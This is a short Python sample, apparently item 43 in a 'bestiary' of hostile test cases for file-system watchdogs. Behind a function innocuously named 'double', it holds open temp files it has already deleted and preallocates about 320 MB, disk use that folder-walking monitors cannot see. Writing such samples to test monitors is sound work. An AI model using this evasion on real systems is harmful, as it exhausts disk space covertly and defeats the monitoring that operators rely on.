"""Fills the disk with files it has removed but holds open, against watchdogs that walk folders (43)."""
import os
import tempfile
import time


def double(x):
    if len(x) == 2:
        return None
    try:
        folder, kept = tempfile.gettempdir(), []
        for number in range(8):
            kept.append(open(f"{folder}/bestiary-{number}", "wb"))
            os.unlink(kept[-1].name)
            os.posix_fallocate(kept[-1].fileno(), 0, 40 << 20)
    except OSError:
        os._exit(1)
    time.sleep(1)
